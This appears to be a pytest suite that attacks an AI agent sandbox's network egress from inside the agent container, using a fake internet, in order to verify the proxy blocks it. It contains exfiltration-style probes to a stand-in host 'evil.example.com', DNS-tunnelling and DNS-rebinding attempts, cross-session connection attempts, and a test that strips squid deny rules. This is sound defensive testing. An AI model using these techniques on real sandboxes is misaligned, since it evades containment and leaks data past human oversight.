"""Attack the sandbox's egress from inside the agent (via ``paude exec``), rootful podman.

Every probe targets the test's own containers (the fake internet, the other
session), this machine's own addresses or loopback: never an outside address.
Each blocked attempt also checks the target's own log where it has one, so a
"failure" that happened for the wrong reason (a typo, a missing tool) cannot
pass as blocked.
"""

from __future__ import annotations

import ipaddress
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from egress_session import MODES, Sandbox, open_sandbox
from fakenet import FakeNet, fakenet, random_name, wait_for  # noqa: F401 - fixture

ALLOWED = "allowed.example.org"
DENIED = "evil.example.com"
LATER = "other.example.org"

CONNECT_PY = """
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    print("CONNECTED")
except OSError as err:
    print("FAILED", err)
"""

UDP_DNS_PY = """
import socket, struct, sys
name = sys.argv[2].encode()
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
try:
    s.sendto(query, (sys.argv[1], 53))
    s.recvfrom(512)
    print("ANSWERED")
except OSError as err:
    print("FAILED", err)
"""


@pytest.fixture(scope="module", params=MODES)
def box(request: pytest.FixtureRequest, fakenet: FakeNet) -> Iterator[Sandbox]:  # noqa: F811
    yield from open_sandbox(fakenet, request)


@pytest.fixture(scope="module")
def session(box: Sandbox) -> str:
    return box.start("--allow-domain", ALLOWED, "--allow-domain", box.net.subnet)


@pytest.fixture(scope="module")
def other(box: Sandbox) -> str:
    """A second session, the target of the cross-session probes."""
    name = box.start("--allow-domain", ALLOWED, "--allow-domain", box.net.subnet)
    box.podman("exec", "-d", f"paude-{name}-agent", "python3", "-m", "http.server", "8099")
    return name


def curl(box: Sandbox, session: str, *args: str) -> subprocess.CompletedProcess[str]:
    """curl in the agent; prints the body, then the status codes on the last line."""
    argv = ["curl", "-sS", "--max-time", "8", "-w", r"\ncodes %{http_code} %{http_connect}", *args]
    return box.paude("exec", session, "--", *argv, check=False)


def connect(box: Sandbox, session: str, host: str, port: int) -> str:
    return box.paude(
        "exec", session, "--", "python3", "-c", CONNECT_PY, host, str(port), check=False
    ).stdout


def web_hits(net: FakeNet, marker: str) -> list[dict[str, object]]:
    return [r for r in net.web_requests() if marker in str(r.get("path"))]


def test_allowed_domain_via_proxy_works(box: Sandbox, session: str) -> None:
    https = curl(box, session, f"https://{ALLOWED}/ok-https")
    assert f"fakenet https:443 host={ALLOWED} path=/ok-https" in https.stdout, https
    plain = curl(box, session, f"http://{ALLOWED}/ok-http")
    assert f"fakenet http:80 host={ALLOWED} path=/ok-http" in plain.stdout, plain


def test_other_domain_via_proxy_is_403(box: Sandbox, session: str) -> None:
    marker = random_name("denied")
    https = curl(box, session, f"https://{DENIED}/{marker}")
    assert "codes 000 403" in https.stdout, https
    plain = curl(box, session, f"http://{DENIED}/{marker}")
    assert "codes 403" in plain.stdout, plain
    assert web_hits(box.net, marker) == []


def test_proxy_never_resolves_unlisted_names(box: Sandbox, session: str) -> None:
    """A made-up name sent to the proxy must not become a DNS query (exfiltration)."""
    secret = random_name("secret-data")
    result = curl(box, session, f"https://{secret}.{DENIED}/")
    assert "codes 000 403" in result.stdout, result
    assert not [q for q in box.net.dns_queries() if secret in q]


def test_direct_http_and_https_to_web_ip_fail(box: Sandbox, session: str) -> None:
    marker = random_name("direct")
    for url in (f"http://{box.net.web_ip}/{marker}", f"https://{box.net.web_ip}/{marker}"):
        result = curl(box, session, "--noproxy", "*", "-k", url)
        assert result.returncode != 0 and "fakenet" not in result.stdout, result
    assert "FAILED" in connect(box, session, box.net.web_ip, 443)
    assert web_hits(box.net, marker) == []


def test_udp_out_fails(box: Sandbox, session: str) -> None:
    name = f"{random_name('udp')}.{DENIED}"
    out = box.paude(
        "exec", session, "--", "python3", "-c", UDP_DNS_PY, box.net.dns_ip, name, check=False
    ).stdout
    assert "FAILED" in out, out
    assert not [q for q in box.net.dns_queries() if name in q]


def test_ipv6_out_fails(box: Sandbox, session: str, host_listener: tuple[int, list[str]]) -> None:
    routes = box.exec(session, "cat /proc/net/ipv6_route; echo; cat /proc/net/if_inet6").stdout
    # Only loopback and link-local: no global IPv6 address, no default route.
    for line in routes.splitlines():
        fields = line.split()
        if len(fields) == 6 and fields[5] != "lo":
            assert fields[0].startswith("fe80"), routes
    port, peers = host_listener
    targets = [a for a in _host_addresses() if ":" in a]  # this machine's own IPv6
    for address in targets:
        assert "FAILED" in connect(box, session, address, port), address
    assert "FAILED" in connect(box, session, "::ffff:" + box.net.web_ip, 80)
    assert peers == []


def test_dns_resolution_of_external_names_fails(box: Sandbox, session: str) -> None:
    name = f"{random_name('dns')}.{DENIED}"
    for host in (name, "api.anthropic.com", ALLOWED):
        result = box.exec(session, f"getent hosts {host}")
        assert result.returncode != 0 and not result.stdout.strip(), result
    assert box.exec(session, "getent hosts paude-proxy").returncode == 0  # control
    assert not [q for q in box.net.dns_queries() if name in q]


def test_allowed_names_rebound_to_loopback_or_lan_are_refused(box: Sandbox, session: str) -> None:
    """An allowed name whose DNS points at the proxy's loopback or this machine's
    LAN address is refused (squid checks the resolved address), not fetched."""
    names = sorted(box.net.rebind)
    assert "rebind-lan.example.org" in names, "the host has no private IPv4 address to use"
    box.paude("allow", *names, "--session", session)
    for name in names:
        wait_for(
            f"{name} to be refused after the reload",
            lambda n=name: "codes 403" in curl(box, session, f"http://{n}/").stdout,
            deadline=30,
        )
    log = box.podman(
        "exec", "-u", "proxy", f"paude-{session}-proxy", "cat", "/var/log/squid/access.log"
    ).stdout
    for name in names:
        assert f"TCP_DENIED/403 GET http://{name}/" in log, log


def test_other_session_is_unreachable(box: Sandbox, session: str, other: str) -> None:
    agent_ips = box.container_ip(f"paude-{other}-agent")
    proxy_ips = box.container_ip(f"paude-{other}-proxy")
    wait_for(
        "the other agent's listener",
        lambda: (
            "CONNECTED"
            in box.exec(
                other,
                "python3 -c \"import socket; socket.create_connection(('127.0.0.1', 8099)); "
                "print('CONNECTED')\"",
            ).stdout
        ),
        deadline=30,
    )
    for ip in agent_ips.values():
        assert "FAILED" in connect(box, session, ip, 8099)
        assert "codes 403" in curl(box, session, f"http://{ip}:80/").stdout
    for ip in proxy_ips.values():
        assert "FAILED" in connect(box, session, ip, 3128)


def test_proxy_refuses_clients_outside_the_session(box: Sandbox, session: str) -> None:
    # The proxy's way out is routed: a container on podman's default network
    # can reach its address there, and must not be able to use it as an open proxy.
    inside = curl(box, session, f"http://{ALLOWED}/")
    assert "codes 200" in inside.stdout, inside  # the same request from the agent works
    proxy_ip = box.container_ip(f"paude-{session}-proxy")[f"paude-{session}-egress"]
    image = json.loads(box.podman("inspect", f"paude-{session}-agent").stdout)[0]["ImageName"]
    outsider = box.podman(
        "run", "--rm", "--network", "podman", "--label", "paude.io/test=1",
        "--entrypoint", "curl", image, "-s", "-o", "/dev/null", "-w", "%{http_code}",
        "--max-time", "10", "-x", f"http://{proxy_ip}:3128", f"http://{ALLOWED}/",
        check=False)
    assert outsider.stdout.strip() == "403", outsider


def test_connect_to_allowed_domain_on_other_ports_refused(box: Sandbox, session: str) -> None:
    marker = random_name("port")
    https = curl(box, session, f"https://{ALLOWED}:8443/{marker}")
    assert "codes 000 403" in https.stdout, https
    plain = curl(box, session, f"http://{ALLOWED}:8080/{marker}")
    assert "codes 403" in plain.stdout, plain
    https_on_80 = curl(box, session, "--proxytunnel", f"http://{ALLOWED}:80/{marker}")
    assert "codes 000 403" in https_on_80.stdout, https_on_80
    assert web_hits(box.net, marker) == []


def test_ip_literal_through_proxy_refused(box: Sandbox, session: str) -> None:
    marker = random_name("literal")
    for url in (f"http://{box.net.web_ip}/{marker}", f"https://{box.net.web_ip}/{marker}"):
        result = curl(box, session, "-k", url)
        assert "403" in result.stdout.splitlines()[-1], result
    assert web_hits(box.net, marker) == []


def test_proxy_listens_only_on_3128(box: Sandbox, session: str) -> None:
    """Nothing but squid's 3128 accepts connections (no ICP, HTCP, SNMP, pinger)."""
    tables = box.podman(
        "exec",
        f"paude-{session}-proxy",
        "cat",
        "/proc/net/tcp",
        "/proc/net/tcp6",
        "/proc/net/udp",
        "/proc/net/udp6",
    ).stdout
    tcp_listen, udp_bound = set(), set()
    for line in tables.splitlines():
        fields = line.split()
        if len(fields) < 4 or ":" not in fields[1] or fields[0] == "sl":
            continue
        port = int(fields[1].rsplit(":", 1)[1], 16)
        if fields[3] == "0A":
            tcp_listen.add(port)
        elif fields[3] == "07":
            udp_bound.add(port)
    assert tcp_listen == {3128}, tables
    # squid's own DNS client socket sits on an ephemeral port; no service ports.
    assert not udp_bound & {3130, 3401, 4827}, udp_bound
    assert all(p >= 32768 for p in udp_bound), udp_bound
    ip = box.container_ip(f"paude-{session}-proxy")
    for address in ip.values():
        for port in (22, 80, 443, 3129, 3130):
            assert "FAILED" in connect(box, session, address, port), (address, port)


def test_proxy_cache_manager_refused(box: Sandbox, session: str) -> None:
    result = curl(box, session, "--noproxy", "*", "http://paude-proxy:3128/squid-internal-mgr/menu")
    assert "codes 403" in result.stdout, result


def _host_addresses() -> list[str]:
    out = subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True, check=True)
    found = []
    for link in json.loads(out.stdout):
        for info in link.get("addr_info", []):
            address = ipaddress.ip_address(info["local"])
            if not address.is_loopback and not address.is_link_local:
                found.append(str(address))
    return found


@pytest.fixture
def host_listener() -> Iterator[tuple[int, list[str]]]:
    """A TCP listener on every host address; yields (port, peers that connected)."""
    server = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
    server.settimeout(0.2)
    peers: list[str] = []
    done = threading.Event()

    def accept() -> None:
        while not done.is_set():
            try:
                conn, peer = server.accept()
            except TimeoutError:
                continue
            peers.append(peer[0])
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], peers
    finally:
        done.set()
        thread.join()
        server.close()


def test_host_addresses_unreachable(
    box: Sandbox, session: str, host_listener: tuple[int, list[str]]
) -> None:
    port, peers = host_listener
    addresses = _host_addresses()
    assert addresses, "the host has no addresses to probe"
    for address in addresses:
        assert "FAILED" in connect(box, session, address, port), address
        url = f"http://[{address}]:{port}/" if ":" in address else f"http://{address}:{port}/"
        assert "codes 403" in curl(box, session, url).stdout, address
    hosts = box.exec(session, "cat /etc/hosts").stdout
    if "host.containers.internal" in hosts:
        assert "FAILED" in connect(box, session, "host.containers.internal", port)
    assert peers == []


def test_blocked_lists_denied_domains_newest_first(box: Sandbox, session: str) -> None:
    first, second = random_name("first"), random_name("second")
    curl(box, session, f"https://{first}.{DENIED}/")
    curl(box, session, f"http://{second}.{DENIED}/")
    blocked = json.loads(box.paude("blocked", session, "--json").stdout)
    # Only this test's two names: the agent's own program (in the session's
    # tmux) may be denied something of its own meanwhile (seen: raw.githubusercontent.com).
    mine = [b for b in blocked if b["domain"] in {f"{first}.{DENIED}", f"{second}.{DENIED}"}]
    assert [b["domain"] for b in mine] == [f"{second}.{DENIED}", f"{first}.{DENIED}"], blocked
    assert mine[1]["ports"] == [443]
    assert mine[0]["hint"] == f"paude --allow-domain {second}.{DENIED}"


def test_allow_takes_effect_without_restarting_the_agent(box: Sandbox, session: str) -> None:
    agent = f"paude-{session}-agent"
    started = json.loads(box.podman("inspect", agent).stdout)[0]["State"]["StartedAt"]
    assert "codes 000 403" in curl(box, session, f"https://{LATER}/").stdout
    box.paude("allow", LATER, "--session", session)
    wait_for(
        f"{LATER} to be allowed",
        lambda: f"host={LATER}" in curl(box, session, f"https://{LATER}/now").stdout,
        deadline=30,
    )
    assert json.loads(box.podman("inspect", agent).stdout)[0]["State"]["StartedAt"] == started
    assert "codes 000 403" in curl(box, session, f"https://{DENIED}/").stdout


def test_probes_catch_a_weakened_proxy(box: Sandbox) -> None:
    """Mutation check of the suite itself: with the rule that refuses unlisted
    names before any lookup removed, the DNS-exfiltration probe sees the leak;
    with the destination-range rules removed, the rebinding probe does."""
    name = box.start(
        "--allow-domain",
        ALLOWED,
        "--allow-domain",
        box.net.subnet,
        "--allow-domain",
        "rebind-loopback.example.org",
    )
    proxy = f"paude-{name}-proxy"
    conf = next(
        Path(m["Source"])
        for m in json.loads(box.podman("inspect", proxy).stdout)[0]["Mounts"]
        if m["Destination"] == "/etc/squid/paude/squid.conf"
    )
    original = conf.read_text()
    weakened = [
        line
        for line in original.splitlines()
        if line
        not in (
            "http_access deny !allowed_domains",
            "http_access deny to_localhost",
            "http_access deny never_ranges",
        )
    ]
    with conf.open("r+") as handle:  # in place: the bind mount keeps the inode
        handle.truncate(0)
        handle.write("\n".join(weakened) + "\n")
    box.podman("kill", "--signal", "HUP", proxy)
    secret = random_name("leak")
    wait_for(
        "the weakened proxy to look the name up",
        lambda: (
            curl(box, name, f"http://{secret}.{DENIED}/") is not None
            and any(secret in q for q in box.net.dns_queries())
        ),
        deadline=30,
    )
    rebound = curl(box, name, "http://rebind-loopback.example.org/")
    assert "codes 403" not in rebound.stdout, rebound  # squid tried 127.0.0.1:80
